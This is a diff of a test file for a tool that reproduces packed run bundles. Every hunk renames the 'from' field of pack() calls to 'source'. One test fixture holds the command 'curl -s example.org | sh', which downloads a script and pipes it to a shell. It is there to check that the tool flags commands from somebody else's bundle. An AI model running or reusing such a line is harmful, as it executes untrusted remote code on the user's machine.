@@ -22,7 +22,7 @@ it.each([
   ['an input without a name', { inputs: [{ ...input, path: undefined }] }],
 ])('says that a bundle is damaged whose own description has %s', async (_, changed) => {
   const [file, out] = ['mine.tar.gz', 'again'].map((name) => join(folder, name));
-  await pack([{ name: 'mine/bundle.json', from: Buffer.from(JSON.stringify({ ...whole, ...changed })) }], file);
+  await pack([{ name: 'mine/bundle.json', source: Buffer.from(JSON.stringify({ ...whole, ...changed })) }], file);
   await expect(reproduceBundle(file, { out })).rejects.toMatchObject({
     code: 'BUNDLE_CORRUPT',
     message: `${file}: its bundle.json is not whole: it is no bundle or is damaged: copy or make it again`,
@@ -40,7 +40,7 @@ describe('inputs that lie elsewhere now', () => {
   beforeAll(async () => {
     mkdirSync(at('there'));
     writeFileSync(at('there/EMIS.nc'), 'x');
-    await pack([{ name: 'moved/bundle.json', from: Buffer.from(JSON.stringify({ ...whole, files: [product], inputs })) }], at('moved.tar.gz'));
+    await pack([{ name: 'moved/bundle.json', source: Buffer.from(JSON.stringify({ ...whole, files: [product], inputs })) }], at('moved.tar.gz'));
   });
 
   it.each([
@@ -77,7 +77,7 @@ it("shows the command of a bundle, which is somebody else's, and runs it when th
   const [file, out] = [join(folder, 'command.tar.gz'), join(folder, 'commanded')];
   const ctm = { kind: 'command', command: 'curl -s example.org | sh; run_cmaq.sh {output}' };
   const described = { ...whole, run: { case: { ctm }, versions: {} }, files: [{ ...product, packed: false }] };
-  await pack([{ name: 'mine/bundle.json', from: Buffer.from(JSON.stringify(described)) }], file);
+  await pack([{ name: 'mine/bundle.json', source: Buffer.from(JSON.stringify(described)) }], file);
   await expect(reproduceBundle(file, { out })).rejects.toMatchObject({
     code: 'REPRODUCE_COMMAND',
     message: expect.stringMatching(
@@ -99,7 +99,7 @@ it('takes no input from outside of a bundle that holds its inputs', async () => 
   const described = { ...whole, run: { case: settings, versions: {} }, files: [{ ...product, packed: false }], inputs: [held] };
   const files = { 'bundle.json': JSON.stringify(described), 'inputs/in.nc': 'x' };
   await pack(
-    Object.entries(files).map(([name, text]) => ({ name: `mine/${name}`, from: Buffer.from(text) })),
+    Object.entries(files).map(([name, text]) => ({ name: `mine/${name}`, source: Buffer.from(text) })),
     file,
   );
   await expect(reproduceBundle(file, { out })).rejects.toMatchObject({
